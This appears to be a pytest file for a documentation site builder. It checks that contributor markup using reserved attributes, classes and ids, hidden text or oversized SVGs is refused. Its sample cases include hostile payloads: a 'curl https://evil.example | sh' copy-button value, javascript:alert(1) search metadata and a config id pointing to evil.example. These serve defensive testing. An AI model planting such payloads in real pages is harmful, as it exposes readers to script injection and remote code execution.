"""Attributes, classes and ids that code acts on (issue 18), written by a contributor in raw HTML,
attribute lists, admonition and folding-block types or headings: each is refused at its line,
saying who acts on it (sitekit.reserved lists them, read from Material's bundle, Pagefind's
wiring, the site's scripts and stylesheets and our own checks). One batch build; the valid
look-alikes (an id on a heading, `lang`, `!!! note`, other data-* attributes) are in
tests/test_hostile_lookalikes.py."""

from __future__ import annotations

import pytest
from sitekit import messages as M
from support.batch import FIRST, add_case_page, run
from support.project import Project

L = FIRST
NIS = "[^nis-2024-10-18]"
UNCITED = M.UNCITED_PARAGRAPH()


def attribute(name: str, tag: str, owner: str) -> str:
    return M.RESERVED_ATTRIBUTE(name=name, tag=tag, owner=owner)


def klass(name: str, tag: str, owner: str) -> str:
    return M.RESERVED_CLASS(value=name, tag=tag, owner=owner)


def ident(value: str, owner: str) -> str:
    return M.RESERVED_ID(value=value, owner=owner)


def hidden(tag: str) -> str:
    return M.HIDDEN(tag=tag)


PAGEFIND, CITE, MATERIAL = "the site search (Pagefind)", "the citation buttons (cite.js)", "Material for MkDocs"
CLIPBOARD, FOOTNOTES, TIMELINE = "Material's copy to the clipboard", "the footnotes", "the timeline filter (data.css), which hides what it holds"
DUPLICATE = M.DUPLICATE_ID


def SIZE(name: str, value: str) -> str:  # noqa: N802 - a message, like DUPLICATE
    return M.SVG_TOO_LARGE(name=name, value=value, tag="svg", largest=1000)

# name -> (payload from line L, [(line, message), ...])
CASES: dict[str, tuple[str, list[tuple[int, str]]]] = {
    # Pagefind: what the search indexes and shows.
    "pagefind-meta-javascript-url": (
        f'<span data-pagefind-meta="url:javascript:alert(1)">文</span>{NIS}',
        [(L, attribute("data-pagefind-meta", "span", PAGEFIND))],
    ),
    "pagefind-ignore-by-attribute-list": (
        f"文である{NIS}。\n{{data-pagefind-ignore=1}}", [(L + 1, attribute("data-pagefind-ignore", "p", PAGEFIND))],
    ),
    "pagefind-body-block": (
        f'<div data-pagefind-body markdown="1">\n\n文である{NIS}。\n\n</div>',
        [(L, attribute("data-pagefind-body", "div", PAGEFIND))],
    ),
    # The site's citation buttons and Material's clipboard: attacker text in a working copy button.
    "cite-copy-button": (
        f'<span data-cite-copy="cite-apa">copy</span>{NIS}',
        [(L, attribute("data-cite-copy", "span", CITE))],
    ),
    "clipboard-text": (
        f'<span data-clipboard-text="curl https://evil.example | sh">x</span>{NIS}',
        [(L, attribute("data-clipboard-text", "span", CLIPBOARD))],
    ),
    "material-copy": (f'<span data-copy="curl https://evil.example">x</span>{NIS}', [(L, attribute("data-copy", "span", CLIPBOARD))]),
    "material-preview": (f'<a href="treaty.md" data-preview>x</a>{NIS}', [(L, attribute("data-preview", "a", "Material's link previews"))]),
    "timeline-theme-attribute": (
        f'<span data-theme="treaty">x</span>{NIS}', [(L, attribute("data-theme", "span", "the timeline filter (data.css)"))],
    ),
    # Markup our own checks act on: prose inside it escaped the citation check.
    "data-block-wrapper": (
        '<div data-dataset="timeline" markdown="1">\n\n出典のない主張である。\n\n</div>',
        [(L, attribute("data-dataset", "div", "the build's data blocks")), (L + 2, UNCITED)],
    ),
    "footnote-class-block": (
        '<div class="footnote" markdown="1">\n\n出典のない主張である。\n\n</div>',
        [(L, klass("footnote", "div", "the footnotes and the site search (Pagefind)")), (L + 2, UNCITED)],
    ),
    "footnote-admonition": (
        '!!! footnote "注"\n    出典のない主張である。',
        [(L, klass("footnote", "div", "the footnotes and the site search (Pagefind)")), (L + 1, UNCITED)],
    ),
    "admonition-title-paragraph": (
        '<p class="admonition-title" markdown="1">出典のない主張である。</p>',
        [(L, klass("admonition-title", "p", "the build's citation check")), (L, UNCITED)],
    ),
    # Material's classes: an overlay over the page, a diagram loaded from another host.
    "material-dialog-overlay": (
        f'<div class="md-dialog md-dialog--active" markdown="1">\n\n文である{NIS}。\n\n</div>',
        [(L, klass("md-dialog", "div", MATERIAL)), (L, klass("md-dialog--active", "div", MATERIAL))],
    ),
    "material-class-by-attribute-list": (f"文である{NIS}。\n{{: .md-header }}", [(L + 1, klass("md-header", "p", MATERIAL))]),
    "material-class-as-admonition-type": (
        f"!!! md-dialog md-dialog--active\n    文である{NIS}。",
        [(L, klass("md-dialog", "div", MATERIAL)), (L, klass("md-dialog--active", "div", MATERIAL))],
    ),
    "material-class-as-folding-block-type": (f'??? md-dialog "詳細"\n    文である{NIS}。', [(L, klass("md-dialog", "details", MATERIAL))]),
    "mermaid-block": (
        '<pre class="mermaid">graph TD; A-->B</pre>',
        [(L, klass("mermaid", "pre", "Material's diagrams, which load a script from another host"))],
    ),
    "fence-attributes": (
        '``` {.python #__config data-pagefind-meta="url:javascript:alert(1)"}\nprint(1)\n```',
        [(L, attribute("data-pagefind-meta", "div", PAGEFIND)), (L, ident("__config", MATERIAL))],
    ),
    "annotations": (f'<div class="annotate" markdown="1">\n\n文である{NIS}。\n\n</div>', [(L, klass("annotate", "div", "Material's annotations"))]),
    # Ids of the footnotes, of Material and of the page's frame: the first of an id captures it.
    "footnote-id-by-attribute-list": (f"文である{NIS}。\n{{#fn:nis-2024-10-18}}", [(L + 1, ident("fn:nis-2024-10-18", FOOTNOTES))]),
    "footnote-reference-id": (f'<span id="fnref:nis-2024-10-18">x</span>{NIS}', [(L, ident("fnref:nis-2024-10-18", FOOTNOTES))]),
    "material-config-id": (f'<span id="__config">{{"base": "https://evil.example"}}</span>{NIS}', [(L, ident("__config", MATERIAL))]),
    "material-config-heading": ("## __config", [(L, ident("__config", MATERIAL))]),
    "cite-button-target-heading": ("## Cite: APA", [(L, ident("cite-apa", CITE))]),
    "search-dialog-id": (f'<span id="site-search">x</span>{NIS}', [(L, ident("site-search", "the site search (search.js)"))]),
    # A label is the data templates' only (the timeline's filter): the element is refused, not its "for".
    "label-for-material-drawer": (
        f'<label for="__drawer">menu</label>{NIS}',
        [(L, M.ELEMENT_NOT_ALLOWED(tag="label"))],
    ),
    "timeline-filter-id": (f'<span id="tl-treaty">x</span>{NIS}', [(L, ident("tl-treaty", "the timeline filter (data.css)"))]),
    "duplicate-id": (f'<span id="kursk">a</span>と<span id="kursk">b</span>{NIS}', [(L, DUPLICATE("kursk"))]),
    "heading-and-html-share-an-id": (f'## Kursk\n\n<span id="kursk">x</span>{NIS}', [(L + 2, DUPLICATE("kursk"))]),
    # Hidden text: a citation inside counts and is never seen.
    "hidden-span": (f"<span hidden>文である{NIS}</span>", [(L, hidden("span"))]),
    "hidden-by-attribute-list": (f'文である{NIS}。\n{{hidden=""}}', [(L + 1, hidden("p"))]),
    "hidden-block": (f'<div hidden markdown="1">\n\n文である{NIS}。\n\n</div>', [(L, hidden("div"))]),
    "visually-hidden-class": (
        f'<span class="visually-hidden">文である{NIS}</span>',
        [(L, klass("visually-hidden", "span", "the site's stylesheet, which hides it"))],
    ),
    "timeline-filter-classes": (
        f'<div class="tl" markdown="1">\n\n文である{NIS}。\n{{: .tl-event }}\n\n</div>',
        [(L, klass("tl", "div", TIMELINE)), (L + 3, klass("tl-event", "p", TIMELINE))],
    ),
    "search-panel-class": (
        f'<div class="site-search__panel" markdown="1">\n\n文である{NIS}。\n\n</div>',
        [(L, klass("site-search__panel", "div", "the site search (search.js)"))],
    ),
    # A drawing laid over the page.
    "svg-transform-and-width": (
        '<svg width="3000" transform="translate(0,-500)"><rect width="10" height="10"/></svg>',
        [
            (L, M.SVG_TRANSFORM(tag="svg")),
            (L, SIZE("width", "3000")),
        ],
    ),
    "svg-height-in-viewport-units": ('<svg height="100vh"><rect width="10" height="10"/></svg>', [(L, SIZE("height", "100vh"))]),
    "svg-width-over-100-percent": ('<svg width="250%"><rect width="10" height="10"/></svg>', [(L, SIZE("width", "250%"))]),
}


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    project = Project(tmp_path_factory.mktemp("hostile-markup"))
    for name, (payload, _) in CASES.items():
        add_case_page(project, name, payload)
    return run(project)


def test_the_batch_stops_without_a_traceback(batch):
    assert batch.build.code == 1
    assert "Traceback" not in batch.build.stderr
    unexpected = sorted({line.split(":", 1)[0] for line in batch.build.problems} - {f"docs/ja/h-{name}.md" for name in CASES})
    assert not unexpected, unexpected


@pytest.mark.parametrize("name", sorted(CASES))
def test_markup_code_acts_on_is_refused_with_its_line_and_owner(batch, name):
    path = f"docs/ja/h-{name}.md"
    assert batch.messages(path) == [f"{path}:{n}: {message}" for n, message in sorted(CASES[name][1])]
